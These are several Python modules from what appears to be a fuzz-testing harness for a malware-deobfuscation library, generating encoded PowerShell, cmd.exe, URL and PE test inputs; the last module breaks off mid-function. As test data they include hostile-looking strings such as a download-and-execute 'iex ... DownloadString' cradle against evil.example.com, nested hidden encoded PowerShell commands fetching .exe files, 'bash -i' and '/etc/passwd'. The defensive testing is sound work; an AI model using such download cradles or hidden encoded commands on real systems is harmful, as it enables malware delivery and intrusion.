RU_LONG = [(b"chr(", b"0", b"65)"), (b"ChrW(", b"0", b"1)"), (b"1.2.3.", b"0", b"4"), (b"0x", b"0", b"7f.1.1.1"), (b"1.2.0x", b"0", b"1.4"),
           (b"http://", b"0", b"1.1.1.1/a"), (b"\\\\", b"0", b"7.1.1.1\\share\\file.txt"), (b"&#", b"0", b"65;&#66;&#67;&#68;&#69;"),
           (b"-bxor ", b"0", b"35 FromBase64String('QUJDRA==')"), (b"http://example.com:", b"0", b"80/"), (b"x@", b"9", b".com"),
           (b"chr(", b"9", b")"), (b"", b"12345678", b"."), (b"0x41,", b"0", b"65," * 501)]
RU_LONG_COUNTS = [4299, 4300, 4301, 5000, 70000]


def g_repeatunit(spec, r):
    """Regex stress: a unit repeated n times between trigger prefixes / suffixes (catastrophic backtracking shows as a hang)."""
    idx = 0
    if spec.get("shard", 0) == 0:
        for pre, unit, suf in RU_LONG:
            for n in RU_LONG_COUNTS:
                yield "repeatunit", pre + unit * n + suf, None
    for unit in RU_UNITS:
        for pre in RU_PREFIX:
            for suf in RU_SUFFIX:
                for n in RU_COUNTS:
                    idx += 1
                    if idx % spec.get("nshards", 1) != spec.get("shard", 0):
                        continue
                    yield "repeatunit", (pre + unit * n + suf)[: base.MAX_INPUT], None


def g_echo(spec, r):
    """The same indicator material in clear AND inside one or two encodings in one input: structurally equal
    sub-trees under different ancestors."""
    while True:
        if r.random() < 0.05:
            # a large payload (> 4 KB) met twice in one input under two different encodings
            big = b" ".join(b"get http://" + netgen.domain(r) + b"/" + netgen.label(r) + b".exe" for _ in range(110))[:4300]
            yield "echo", big.hex().encode() + b" ; " + base64.b64encode(big), None
            continue
        core = r.choice([b"http://" + netgen.domain(r) + b"/" + netgen.label(r) + b".exe", netgen.email(r), b"cmd /c " + netgen.exe_name(r),
                         netgen.ipv4(r), b"\\\\" + netgen.domain(r) + b"\\share\\" + netgen.exe_name(r)])
        parts = [core]
        for _ in range(r.randint(1, 3)):
            k = r.randrange(5)
            if k == 0:
                parts.append(base64.b64encode(core + b" " * (r.randrange(3))))
            elif k == 1:
                parts.append(b'atob("' + base64.b64encode(core) + b'")')
            elif k == 2:
                parts.append(core.hex().encode())
            elif k == 3:
                parts.append(b"powershell -enc " + base64.b64encode(core.decode("latin-1").encode("utf-16-le")))
            else:
                parts.append(b"unescape('" + b"".join(b"%%%02x" % c for c in core) + b"')")
        if r.random() < 0.5:
            # the same encoded blob at two different decoding depths (deeper occurrence first or last)
            inner = base64.b64encode(core)
            outer = base64.b64encode(r.choice([b"see ", b"text and ", b""]) + inner + r.choice([b"", b" end"]))
            parts = [outer, inner] if r.random() < 0.5 else [inner, outer]
            if r.random() < 0.5:
                parts.append(core)
        else:
            r.shuffle(parts)
        yield "echo", r.choice([b" ", b"\n", b" ; ", b" , "]).join(parts), (None if r.random() < 0.6 else r.choice([1, 2, 3, 4]))


def g_expand(spec, r):
    """Decodings whose value is LONGER than the text they replace and carries several plain indicators."""
    while True:
        ioc = r.choice([netgen.domain(r), netgen.ipv4(r), b"http://" + netgen.domain(r) + b"/a", netgen.email(r)])
        n = r.randint(2, 5)
        subj = b" ".join([b"x"] * n) if r.random() < 0.6 else b" x ".join(netgen.label(r) for _ in range(n))
        k = r.randrange(4)
        if k == 0:
            e = b'"' + subj + b'".replace("x","' + ioc + b'")'
        elif k == 1:
            e = b'Replace("' + subj + b'", "x", "' + ioc + b'")'
        elif k == 2:
            e = b"'" + subj + b"' -replace 'x','" + ioc + b"'"
        else:
            e = b'"' + subj + b'".replace(/x/g, "' + ioc + b'")'
        wrap = r.choice([(b"", b""), (b"zz ", b" tail"), (b"CreateObject(", b")"), (b"cmd /c echo ", b"")])
        yield "expand", wrap[0] + e + wrap[1], (None if r.random() < 0.7 else r.choice([1, 2, 3]))


def g_overlap(spec, r):
    """An unchanged indicator and a decoded blob that starts inside it and runs past its end (partially overlapping siblings)."""
    while True:
        payload = r.choice([b"Hello from the other side", b"connect " + netgen.ipv4(r) + b" now", netgen.domain(r) + b" and more text"])
        pad = b" " * ((3 - len(payload) % 3) % 3)
        b64 = base64.b64encode(payload + pad)
        k = r.randrange(3)
        if k == 0:
            text = netgen.label(r) + b".exe+" + b64          # run "exe+" + base64
        elif k == 1:
            text = netgen.label(r) + b".com/" + b64          # run "com/" + base64
        else:
            text = b"http://" + netgen.domain(r) + b"/abcd" + b64
        yield "overlap", r.choice([b"start ", b"", b"x "]) + text + r.choice([b"", b" tail"]), None


def g_twopaths(spec, r):
    while True:
        host = r.choice([netgen.ipv4(r), netgen.domain(r)])
        first = b"\\\\" + host + b"\\share\\" + netgen.exe_name(r)
        second = r.choice([b"c:\\temp\\" + netgen.exe_name(r), b"..\\docs\\" + netgen.label(r) + b".txt", b"\\\\.\\C:\\Test\\" + netgen.exe_name(r)])
        yield "twopaths", r.choice([b"copy ", b""]) + first + b" " + second + r.choice([b"", b" " + first]), None


def g_bom(spec, r):
    """Whole inputs that are UTF-16 text with a byte order mark, at depth limits around zero."""
    while True:
        text = r.choice(["cmd /c calc.exe", "http://evil.example.com/a.exe and 1.2.3.4", "hello world hello", "x"]) * r.randint(1, 3)
        bom, codec = r.choice([(b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be")])
        yield "bom", bom + text.encode(codec) + r.choice([b"", b"\x00"]), r.choice([-1, 0, 0, 1, 2, None])


UNICASE = ["\u0130", "\u023a", "\u023e", "\u212a", "\u00df", "\u017f", "\u01c5", "\ufb01", "\u03a3", "\u1e9e", "\u0149", "\u2126", "\u00b5"]
_SHIPPED_KW: list[bytes] = []


def shipped_keywords():
    """Some bundled keywords (read from the repository under test: inputs, not expectations)."""
    if not _SHIPPED_KW:
        import os
        import multidecoder
        d = os.path.join(os.path.dirname(multidecoder.__file__), "keywords")
        for root_, _, files in sorted(os.walk(d)):
            for fn in sorted(files):
                with open(os.path.join(root_, fn), "rb") as f:
                    words = [w for w in f.read().splitlines() if 3 <= len(w) <= 40]
                _SHIPPED_KW.extend(words[:: max(1, len(words) // 6)][:6])
    return _SHIPPED_KW or [b"strlen"]


def g_unicase(spec, r):
    """Text whose letters change their byte length under Unicode case mapping (dotted capital I, Kelvin sign, sharp s,
    ligatures ...) around bundled keywords, keyword last with no trailing newline: offsets computed on a re-cased copy of
    the text no longer fit the bytes."""
    kws = shipped_keywords()
    while True:
        n = r.choice([1, 2, 5, 40, 300])
        letters = "".join(r.choice(UNICASE) for _ in range(n)).encode("utf-8")
        kw = r.choice(kws)
        kw = kw if r.random() < 0.6 else kw.swapcase()
        mid = r.choice([b" ", b"\n", b" text ", b"; "])
        tail = r.choice([b"", b"", b" ", b"\n", b" " + r.choice(kws)])
        yield "unicase", r.choice([b"", b"x "]) + letters + mid + kw + tail, None


def g_psstack(spec, r):
    """Encoded PowerShell commands whose decoded text is again an encoded PowerShell command (1-4 deep), at depth limits
    below, at and above the number of layers."""
    while True:
        cur = r.choice([b"iwr http://" + netgen.domain(r) + b"/a.exe", b"echo bee", b"ping " + netgen.ipv4(r), b"calc.exe"])
        n = r.randint(1, 4)
        for _ in range(n):
            head = r.choice([b"powershell -nop -enc ", b"cmd /c powershell -e ", b"pwsh /enc ", b"p^owershell -nop -ec ", b"powershell.exe -w hidden -EncodedCommand "])
            cur = head + base64.b64encode(cur.decode("latin-1").encode("utf-16-le"))
        yield "psstack", r.choice([b"", b"x ", b"run: "]) + cur, r.choice([None, 1, 1, 2, 2, 3, 4])


def g_netmix(spec, r):
    """URL / indicator / path workloads of C10-C12 as plain inputs (totality, tree shape)."""
    gens = [g(spec, r) for g in (g_url, g_ioc, g_twopaths, g_overlap)]
    while True:
        yield next(r.choice(gens))


def g_codec(spec, r):
    """The structured single-expression cases of C13-C15 (every spelling, boundary and size class their generators know),
    as plain inputs for the properties that judge something else (totality, tree shape)."""
    from vf.gens import codecgen
    while True:
        k = r.randrange(6)
        if k == 0:
            rec = codecgen.c13_case(r)
        elif k == 1:
            rec = codecgen.c14_case(r)
        elif k == 2:
            rec = codecgen.c15_case(r)
        elif k == 3:
            yield "codec", codecgen.c13_xor_case(r)[0], None
            continue
        elif k == 4:
            yield "codec", codecgen.c14_chr_sequence(r)[2], None
            continue
        else:
            a, b = codecgen.c14_case(r), codecgen.c15_case(r)
            if a is None or b is None:
                continue
            yield "codec", a["data"] + b" ; " + b["data"], None
            continue
        if rec is not None:
            yield "codec", rec["data"], r.choice([None, None, None, 1, 2])


GENERATORS = {
    "skel": g_skel, "xor": g_xor, "cmd": g_cmd, "pe": g_pe, "xorbytes": g_xorbytes, "matryoshka": g_matryoshka,
    "nesting": g_nesting, "seedmut": g_seedmut, "soup": g_soup, "large": g_large, "repeat": g_repeat, "url": g_url, "ioc": g_ioc, "layer": g_layer, "ctxdec": g_ctxdec, "nest": g_nest, "plainnest": g_plainnest, "repeatunit": g_repeatunit, "echo": g_echo, "expand": g_expand, "overlap": g_overlap, "twopaths": g_twopaths, "bom": g_bom, "unicase": g_unicase, "codec": g_codec, "psstack": g_psstack, "netmix": g_netmix,
}


def generate(spec, r):
    return GENERATORS[spec["gen"]](spec, r)
