"""G-cmd: structured command texts (cmd.exe / powershell invocations).

Structure is generated, not sampled: between every two tokens of an encoded
powershell invocation a separator is drawn from {space, tab, ^+space, ^CRLF
(line continuation as the only separator), nothing, double space}.
"""

from __future__ import annotations

import base64

INDICATORS = [b"powershell", b"pwsh", b"powershell.exe", b"PowerShell", b"p^owershell", b"pow^ers^hell", b"pwsh.exe",
              b"POWERSHELL.EXE", b"p^w^s^h"]
SWITCHES = [b"-nop", b"-NoP", b"/w", b"-sta", b"-noni", b"-NonI", b"/nologo", b"-ep", b"-w"]
ENC_WORD = b"encodedcommand"
SEPS = [b" ", b"\t", b"^ ", b"^\r\n", b"", b"  ", b" ^", b"\r\n"]
PREFIXES = [b"", b"cmd /c ", b"x 'y ", b"'", b'"', b"for /f %i in ('", b";", b"& ", b"run; ", b"(", b"{", b"zz=",
            b"cmd.exe /c \"", b"C:\\Windows\\System32\\cmd.exe /k ", b"a\\"]
SUFFIXES = [b"", b"'", b'"', b"') do x", b" trailing", b")", b"\x00rest", b"\r\nnext line", b"' | foreach (", b'" | % {(', b"' ("]
PAYLOADS = ["echo bee", "iex (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')", "a",
            "Write-Host 1.2.3.4", "\u4e2d\u6587\u4e2d\u6587\u4e2d\u6587", "calc.exe", ""]


def enc_switch(r) -> bytes:
    n = r.randint(1, len(ENC_WORD))
    word = ENC_WORD[:n] if r.random() < 0.9 else b"ec"  # -ec is the documented alias
    if r.random() < 0.3:
        word = bytes(c ^ 0x20 if r.random() < 0.5 else c for c in word)
    style = r.choice([b"-", b"/"])
    return style + word


def caretize(r, s: bytes, p=0.3) -> bytes:
    out = bytearray()
    for c in s:
        if r.random() < p:
            out += b"^"
        out.append(c)
    return bytes(out)


def encoded_invocation(r) -> dict:
    """One encoded powershell invocation with its construction record."""
    ind = r.choice(INDICATORS)
    switches = [r.choice(SWITCHES) for _ in range(r.choice([0, 0, 1, 2, 3]))]
    esw = enc_switch(r)
    payload = r.choice(PAYLOADS) if r.random() < 0.7 else "".join(chr(r.choice([r.randint(32, 126), r.randint(160, 255), r.randint(0x400, 0x4FF)])) for _ in range(r.randint(1, 20)))
    if r.random() < 0.03:
        # an encoded command longer than cmd.exe's 8191 byte command line / than 64 KiB
        payload = " ".join(r.choice(["Write-Host", "zq", "lorem", "$x=1;", "ipsum"]) for _ in range(r.choice([300, 1500, 8000])))
    raw = payload.encode("utf-16-le")
    if payload and r.random() < 0.08:
        # "the UTF-16 decoding": a byte order mark selects the byte order and is not part of the text
        raw = r.choice([b"\xff\xfe" + raw, b"\xfe\xff" + payload.encode("utf-16-be")])
    b64 = base64.b64encode(raw)
    arg = b64
    q = r.choice([b"", b"", b"'", b'"'])
    if r.random() < 0.25:
        arg = caretize(r, arg, 0.2)
    arg = q + arg + q
    toks = [ind] + switches + [esw, arg]
    seps = [r.choice(SEPS) if r.random() < 0.5 else b" " for _ in range(len(toks) - 1)]
    text = toks[0]
    for s, t in zip(seps, toks[1:]):
        if t.startswith(b"/") and s == b"":
            text += t  # "/e" may follow directly
        else:
            text += s + t
    prefix = r.choice(PREFIXES)
    suffix = r.choice(SUFFIXES)
    pair = False
    if r.random() < 0.12:
        # an earlier invocation in the same text (caret-escaped or not, encoded or not) must not change this one
        first = r.choice([b"p^owershell -nop -c dir", b"pow^ers^hell -w hidden Get-Date", b"powershell -c dir", b"p^wsh -e ZQBjAGgAbwAgAGIAZQBlAA==",
                          b"pwsh -enc ZQBjAGgAbwAgAGIAZQBlAA==", b"cmd /c p^owershell -c whoami"])
        prefix = first + r.choice([b" & ", b"; ", b" && ", b"\r\n& "])
        pair = True
    return {"data": prefix + text + suffix, "prefix": prefix, "suffix": suffix, "payload": payload, "tokens": toks,
            "seps": seps, "quote": q, "raw": raw, "pair": pair}


def plain_invocation(r) -> bytes:
    ind = r.choice(INDICATORS)
    body = r.choice([b" -w hidden -enc AAAA", b" -foo bar", b" Get-Process", b" -Command \"a b\"", b" -c 'x'", b"",
                     b" -nop -c iex $env:x", b"^ -^n^o^p", b" (1+1)"])
    if r.random() < 0.06:
        # the opening quote / FOR clause may be arbitrarily far back (beyond any command-line length limit)
        opener, closer = r.choice([(b'"', b'" tail'), (b"'", b"' tail"), (b"for /f %i in ('", b"') do x"), (b"'", b""), (b'"', b"')")])
        filler = b" ".join(r.choice([b"lorem", b"ipsum", b"zq", b"rem", b"1234", b"--"]) for _ in range(r.choice([1200, 1700, 2400, 5000])))
        filler = filler[: r.choice([8100, 8189, 8190, 8191, 8192, 8200, 9000, 20000])]
        joiner = r.choice([b"; ", b" & ", b" /c ", b" x=", b" { ", b" cmd /k "])  # what makes the token an invocation
        return r.choice([b"", b"x "]) + opener + filler + joiner + ind + body + closer
    return r.choice(PREFIXES) + ind + body + r.choice(SUFFIXES)


def two_invocations(r) -> bytes:
    """An encoded invocation followed by a plain one inside ONE quoted string / FOR clause."""
    enc = base64.b64encode(r.choice(["echo bee", "calc.exe", "Get-Date"]).encode("utf-16-le"))
    first = r.choice([b"powershell -nop -e ", b"pwsh /enc ", b"powershell.exe -w -ec "]) + enc
    second = r.choice([b"powershell -nop Remove-Item x", b"pwsh Get-Process", b"p^owershell -c dir"])
    opener, closer = r.choice([(b'cmd /c "', b'" >nul'), (b"x '", b"' y"), (b"for /f %i in ('", b"') do z")])
    return opener + first + r.choice([b" & ", b" ; ", b" && "]) + second + closer


def cmd_text(r) -> bytes:
    alpha = [b"^", b'"', b"\r", b"\n", b"(", b")", b"a", b" ", b"\x00", b"&", b"^^", b"^\r\n", b"'", b"echo", b"/c"]
    head = r.choice([b"cmd", b"cmd.exe", b"c^m^d", b'"cmd"', b'"cmd.exe"', b"CMD", b"C:\\Windows\\System32\\cmd.exe",
                     b'"C:\\WINDOWS\\system32\\cmd.exe"', b"cm^d", b"cmd\"", b"cmd'"])
    body = b"".join(r.choice(alpha) for _ in range(r.randint(0, 14)))
    wrap = r.choice([(b"", b""), (b"(", b") after"), (b'"', b'"'), (b"for /f %i in ('", b"') do x"), (b"x ", b""),
                     (b"((", b")"), (b"start ", b"\x00\x00")])
    return wrap[0] + head + r.choice([b" ", b" /c ", b"/c", b" /k ", b"", b"^ "]) + body + wrap[1]
