"""Generic input generators: seeds harvested from the repository's tests,
weighted token soup, byte/token level mutation, skeleton x exhaustive tails."""

from __future__ import annotations

import ast
import itertools
import os

from vf import env

MAX_INPUT = 16 * 1024

_seed_cache = None


def harvest_seeds() -> list[bytes]:
    """Every bytes literal in <repo>/tests/**/*.py (ast), de-duplicated."""
    global _seed_cache
    if _seed_cache is not None:
        return _seed_cache
    out: dict[bytes, None] = {}
    root = os.path.join(env.REPO, "tests")
    for dirpath, dirnames, files in os.walk(root):
        dirnames.sort()
        for fn in sorted(files):
            if not fn.endswith(".py"):
                continue
            try:
                with open(os.path.join(dirpath, fn), "rb") as f:
                    mod = ast.parse(f.read())
            except (OSError, SyntaxError):
                continue
            for node in ast.walk(mod):
                if isinstance(node, ast.Constant) and isinstance(node.value, bytes):
                    v = node.value
                    if 0 < len(v) <= MAX_INPUT:
                        out[v] = None
    _seed_cache = list(out)
    return _seed_cache


# Trigger tokens harvested by reading the decoder regexes.
TOKENS: list[bytes] = [
    b"cmd", b"cmd.exe", b"cmd /c ", b"c^m^d", b'"cmd"', b"C:\\Windows\\System32\\cmd", b"/c", b"/k", b"^", b"^^", b"\r", b"\n",
    b"\r\n", b"^\r\n", b"^\r", b'"', b"'", b"(", b")", b"'(", b"')", b"`", b"\\", b"\x00", b" ", b"\t", b";", b",",
    b"=", b"&", b"&&", b"|", b"{", b"}", b"[", b"]", b"<", b">", b"powershell", b"pwsh", b"p^ow^ershell",
    b"powershell.exe", b"-e", b"-enc", b"-ec", b"-encodedcommand", b"/e", b"/enc", b"-w hidden", b"-nop",
    b"-Command", b"for /f ", b" in ('", b"') do ", b"&#", b"&#x", b"&#x41;", b"&#65;", b"&#13;", b"&#10;", b"&#xD;",
    b"&#xA", b"&#xzz;", b"&#256;", b"&#099;", b";", b"chr(", b"chrw(", b"ChrB(", b"chr(65)", b"chr(99999)",
    b"chr(55296)", b"unescape('", b"unescape('%41')", b"unescape('%u9090%uD9EB%u5B74')", b"%uD800", b"%uDC00%uD800", b"%u0041", b"%41", b"%4", b"%zz", b"%2F", b"%2e", b"%", b"atob(\"", b"atob('",
    b"Base64Decode(\"", b"FromBase64String('", b"[System.Convert]::", b"FromHexString('", b"')", b"\")",
    b"-bxor ", b"-bxor", b"-xor", b" -bxor 35", b" -bxor 300", b"0", b"1", b"7", b"9", b"10", b"35", b"127", b"128",
    b"255", b"256", b"300", b"999", b"0x41", b"0x7f", b"0x", b"http://", b"https://", b"ftp://", b"HtTp://", b"hxxp://",
    b"example.com", b"evil.example.org", b"a.bc", b"test.zip", b"xn--abcde", b"@", b":", b":80", b":99999", b"[::1]",
    b"[", b"%5B", b"%5D", b"1.2.3.4", b"93.184.216.34", b"127.1", b"0x7f.0.0.1", b"0177.0.0.1", b"256.1.1.1",
    b"1.2.3.4.5", b"10.0.0.255", b"10.0.09.1", b"192.168.008.17", b"0x7F.0x0.0X0.0x1", b"0x00007f.1.1.1", b"00000010.1.1.1", b"1.2.3.0377", b"1.2.3.999", b"08.08.08.08", b"0.0.0.0", b"user:pass@", b"user:@", b"/", b"//", b"/./", b"/../", b"..", b".",
    b"?", b"#", b"?q=1", b"#frag", b"\\\\", b"\\\\host\\share\\file.exe", b"\\\\?\\", b"\\\\.\\", b"UNC\\", b"C:\\",
    b"C:\\Windows\\..\\x\\file.dll", b"c$\\", b"@SSL", b"@8080", b"Volume{01234567-89ab-cdef-0123-456789abcdef}\\",
    b"/usr/bin/env", b"/etc/passwd", b"./aaa/bbb", b"MZ", b"PE\x00\x00", b"\x3c\x00\x00\x00", b"file.exe", b"lib.dll",
    b"a.exe", b"h\x00e\x00l\x00l\x00o\x00w\x00o\x00", b"\x00\x00", b"A\x00", b"strlen", b"StrLen", b"STRLEN", b"strLEN",
    b"onclose", b"CreateObject(", b"createobject(\"WScript.Shell\")", b"StrReverse(\"", b"reverse('", b"reversed(\"",
    b".replace(", b"Replace(", b" -replace ", b".replace(/", b"/g", b"/gi,", b"\" + \"", b"' & '", b"\" &amp; \"",
    b"_\r\n", b"\"\"", b"ZHVjaw==", b"aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", b"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=",
    b"68656c6c6f20776f726c6421212121", b"48454C4C4F20574F524C4421212121", b"12345678901234567890", b"ABCDEF",
    b"abcdef", b"deadbeef", b"=", b"==", b"user@example.com", b"ersion ", b"section ", b"<t>", b"sh -c \"",
    b"\"bash -i\"", b"this.", b"\xff", b"\x80", b"\xe9", b"\x7f", b"\x1b", "\u0130".encode(), "\u212a".encode(), "\u00df".encode(),
    "\ufb01".encode(), "\u023a".encode(), b"\xef\xbb\xbf", b"\xc2\x85", b"\xe2\x80\xa8", b"\x0b", b"\x0c", b"\x1c", b"\x85",
]


def soup(r, max_tokens=40) -> bytes:
    n = r.randint(1, max_tokens)
    parts = []
    for _ in range(n):
        x = r.random()
        if x < 0.70:
            parts.append(r.choice(TOKENS))
        elif x < 0.80:
            parts.append(bytes(r.randrange(256) for _ in range(r.randint(1, 6))))
        elif x < 0.90:
            parts.append(bytes(r.choice(b"abcdefghijklmnopqrstuvwxyzABCDEF0123456789") for _ in range(r.randint(1, 12))))
        elif x < 0.95:
            parts.append(str(r.choice([0, 1, 9, 10, 99, 100, 255, 256, 300, 999, 65535, 65536, 99999])).encode())
        else:
            parts.append(r.choice(parts) if parts else b" ")
    return b"".join(parts)[:MAX_INPUT]


def mutate(r, data: bytes, seeds: list[bytes]) -> bytes:
    """1-4 byte/token level edits."""
    b = bytearray(data)
    for _ in range(r.randint(1, 4)):
        op = r.randrange(9)
        pos = r.randrange(len(b) + 1) if b else 0
        if op == 0 and b:  # delete span
            n = r.randint(1, min(8, len(b)))
            pos = r.randrange(len(b) - n + 1)
            del b[pos:pos + n]
        elif op == 1:  # insert token
            b[pos:pos] = r.choice(TOKENS)
        elif op == 2 and b:  # flip byte
            b[r.randrange(len(b))] = r.randrange(256)
        elif op == 3 and b:  # duplicate span
            n = r.randint(1, min(32, len(b)))
            s = r.randrange(len(b) - n + 1)
            b[pos:pos] = b[s:s + n]
        elif op == 4 and b:  # truncate
            if r.random() < 0.5:
                del b[r.randrange(len(b)):]
            else:
                del b[:r.randrange(len(b))]
        elif op == 5:  # splice with another seed
            other = r.choice(seeds) if seeds else b""
            cut = r.randrange(len(other) + 1) if other else 0
            b[pos:] = other[cut:]
        elif op == 6:  # embed at offset inside padding
            pad = r.choice([b" ", b"x ", b"padding ", b"\x00", b"(", b"'", b"\"", b"a" * r.randint(1, 70) + b" "])
            b[0:0] = pad
        elif op == 7 and b:  # replace a byte by a special
            b[r.randrange(len(b))] = r.choice(b"^\r\n\"'()%&#;\x00 ")
        else:  # insert random bytes
            b[pos:pos] = bytes(r.randrange(256) for _ in range(r.randint(1, 4)))
    return bytes(b[:MAX_INPUT])


def tails(alphabet: list[bytes], max_len: int):
    """Every string over `alphabet` of length 0..max_len."""
    for n in range(max_len + 1):
        for combo in itertools.product(alphabet, repeat=n):
            yield b"".join(combo)


def count_tails(k: int, max_len: int) -> int:
    return sum(k ** n for n in range(max_len + 1))
