"""G-pe: hand-assembled minimal PE images with ground-truth size, and malformed variants."""

from __future__ import annotations

import struct


def build_pe(sections=((0x200, 0x200),), e_lfanew=0x40, fill=b"\xcc", pe32plus=False, trailing=b"", max_len=1 << 16, num_dirs=16, dos_rng=None) -> tuple[bytes, int]:
    """sections: ((PointerToRawData, SizeOfRawData), ...). Returns (image, true size)
    where true size = max(ptr + size) (what the library documents as the end of the file)."""
    dos = bytearray(b"MZ" + b"\x00" * 0x3E)
    struct.pack_into("<I", dos, 0x3C, e_lfanew)
    dos += b"\x00" * (e_lfanew - len(dos))
    if dos_rng is not None:
        # the DOS header fields other than e_magic / e_lfanew and the DOS stub are free: any bytes, line feeds included
        for i in list(range(2, 0x3C)) + list(range(0x40, e_lfanew)):
            dos[i] = dos_rng.choice([0x0A, 0x0D, 0x00, 0xFF, 0x4D, 0x5A]) if dos_rng.random() < 0.3 else dos_rng.randrange(256)
    nsec = len(sections)
    opt_size = (112 if pe32plus else 96) + 8 * num_dirs
    coff = struct.pack("<HHIIIHH", 0x8664 if pe32plus else 0x14C, nsec, 0, 0, 0, opt_size, 0x0102)
    if pe32plus:
        opt = struct.pack("<HBBIIIII", 0x20B, 14, 0, 0x200, 0, 0, 0x1000, 0x1000)
        opt += struct.pack("<QIIHHHHHHIIIIHH", 0x140000000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x1000 * (nsec + 1), 0x200, 0, 3, 0)
        opt += struct.pack("<QQQQII", 0x100000, 0x1000, 0x100000, 0x1000, 0, num_dirs)
    else:
        opt = struct.pack("<HBBIIIIII", 0x10B, 14, 0, 0x200, 0, 0, 0x1000, 0x1000, 0x2000)
        opt += struct.pack("<IIIHHHHHHIIIIHH", 0x400000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x1000 * (nsec + 1), 0x200, 0, 3, 0)
        opt += struct.pack("<IIIIII", 0x100000, 0x1000, 0x100000, 0x1000, 0, num_dirs)
    opt += b"\x00" * (num_dirs * 8)
    assert len(opt) == opt_size, len(opt)
    sect = b""
    for i, (ptr, size) in enumerate(sections):
        name = (b".s%d" % i).ljust(8, b"\x00")
        sect += name + struct.pack("<IIIIIIHHI", size, 0x1000 * (i + 1), size, ptr, 0, 0, 0, 0, 0x60000020)
    image = bytearray(dos + b"PE\x00\x00" + coff + opt + sect)
    true_size = max((p + s for p, s in sections), default=0)
    if len(image) < min(true_size, max_len):
        image += fill * (min(true_size, max_len) - len(image))
    return bytes(image) + trailing, true_size


def header_len(nsec=1, e_lfanew=0x40, pe32plus=False) -> int:
    return e_lfanew + 4 + 20 + (240 if pe32plus else 224) + 40 * nsec


def valid_images(r):
    """A few structurally valid images with their true size."""
    out = []
    for nsec in (1, 2, 3, 4):
        secs = []
        ptr = 0x200 if header_len(nsec) <= 0x200 else 0x400
        for _ in range(nsec):
            size = r.choice([0x200, 0x400, 0x600])
            secs.append((ptr, size))
            ptr += size
        out.append(build_pe(tuple(secs)))
    out.append(build_pe(((0x200, 0x200),), e_lfanew=0x80))
    out.append(build_pe(((0x400, 0x200), (0x200, 0x200))))  # sections out of order
    out.append(build_pe(((0x200, 0x400), (0, 0))))  # highest-address section has no raw data (.bss style)
    out.append(build_pe(((0x600, 0x200), (0x200, 0x400), (0, 0))))
    out.append(build_pe(((0x200, 0x200),), pe32plus=True))
    # "tiny PE" style headers declaring fewer than the usual 16 data directories
    for nd in (0, 1, 4, 5, 15):
        out.append(build_pe(((0x200, 0x200),), num_dirs=nd))
    out.append(build_pe(((0x200, 0x400),), pe32plus=True, num_dirs=2))
    # free-form DOS headers / stubs, header offsets whose bytes include a line feed
    out.append(build_pe(((0x200, 0x200),), dos_rng=r))
    out.append(build_pe(((0x400, 0x200), (0x200, 0x200)), e_lfanew=0x10A, dos_rng=r))
    out.append(build_pe(((0x200, 0x400),), e_lfanew=0x0A * 8, dos_rng=r))
    out.append(build_pe(((0x200, 0x200),), e_lfanew=0xC8, dos_rng=r, pe32plus=True))
    return out


def malformed(r):
    """Yield (label, bytes): truncations at every header boundary, pointers past EOF, overlaps..."""
    img, size = build_pe(((0x200, 0x400),))
    hl = header_len(1)
    for cut in sorted({2, 0x3C, 0x3E, 0x40, 0x44, 0x44 + 20, 0x44 + 20 + 2, 0x44 + 20 + 96, hl - 40, hl - 1, hl, hl + 1,
                       0x200, 0x201, 0x250, 0x3FF, 0x400, size - 1, size - 0x100}):
        yield f"trunc@{cut}", img[:cut]
    for _ in range(6):
        yield "trunc@rand", img[: r.randrange(len(img))]
    for e in (0, 1, 0x3C, 0x41, 0x1000, 0xFFFFFFF0, len(img) - 4, len(img)):
        b = bytearray(img)
        struct.pack_into("<I", b, 0x3C, e)
        yield f"e_lfanew={e:#x}", bytes(b)
    for ptr, sz in ((0x200, 0x10000), (0x100000, 0x200), (0xFFFFFFF0, 0x20), (0, 0), (0x200, 0), (0, 0x200),
                    (0x200, 0xFFFFFFFF), (0x7FFFFFFF, 0x7FFFFFFF)):
        b, _ = build_pe(((ptr, sz),), max_len=0x1000)
        yield f"sect({ptr:#x},{sz:#x})", b
    yield "zero-sections", build_pe(())[0] + b"\x00" * 64
    yield "overlap", build_pe(((0x200, 0x400), (0x300, 0x200)))[0]
    a, _ = build_pe(((0x200, 0x200),))
    b2, _ = build_pe(((0x200, 0x400),))
    yield "two-back-to-back", a + b2
    yield "nested-mz", a[:0x200] + b2 + a[0x200:]
    # number of sections lies
    b = bytearray(a)
    struct.pack_into("<H", b, 0x40 + 4 + 2, 0xFFFF)
    yield "nsec=65535", bytes(b)
    b = bytearray(a)
    struct.pack_into("<H", b, 0x40 + 4 + 16, 0xFFFF)
    yield "optsize=65535", bytes(b)
    for _ in range(10):
        b = bytearray(a)
        for _ in range(r.randint(1, 6)):
            b[r.randrange(hl)] = r.randrange(256)
        yield "header-bitflip", bytes(b)
