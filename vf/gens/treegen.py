"""G-tree: random Node trees as canonical tuples (type, value, obf, start, end, children)."""

from __future__ import annotations

TYPES = ["", "string", "powershell.string", "vba.string", "x", "network.url", "substring", "strïng", "中文string",
         "shell.cmd", "stringy", "STRING", "a.b.c"]
OBFS = ["", "encoding.base64", "MixedCase", "über", "x" * 40]
ALPHAS = [b"ab", b"abcdefgh \"'", bytes(range(256)), b"\x00\xff\"", b"AaBb01"]


def rand_bytes(r, n, alpha=None):
    alpha = alpha or r.choice(ALPHAS)
    return bytes(r.choice(alpha) for _ in range(n))


def rand_tree(r, depth=0, max_depth=5, value=None, in_domain=True):
    if value is None:
        value = rand_bytes(r, r.choice([0, 1, 2, 5, 12, 30, 40]))
    n = len(value)
    kids = []
    if depth < max_depth and r.random() < (0.9 if depth == 0 else 0.55):
        k = r.choice([1, 1, 2, 3, 5])
        spans = []
        for _ in range(k):
            s = r.randint(0, n)
            e = r.choice([s, n, r.randint(s, n), min(n, s + r.randint(0, 4))])
            spans.append((s, e))
        spans.sort(key=lambda t: t[0])
        if not in_domain and r.random() < 0.7:
            x = r.random()
            if x < 0.4:
                r.shuffle(spans)
            elif x < 0.7 and spans:
                i = r.randrange(len(spans))
                spans[i] = (spans[i][0], n + r.randint(1, 5))
            elif spans:
                i = r.randrange(len(spans))
                spans[i] = (-r.randint(1, 3), spans[i][1])
        for s, e in spans:
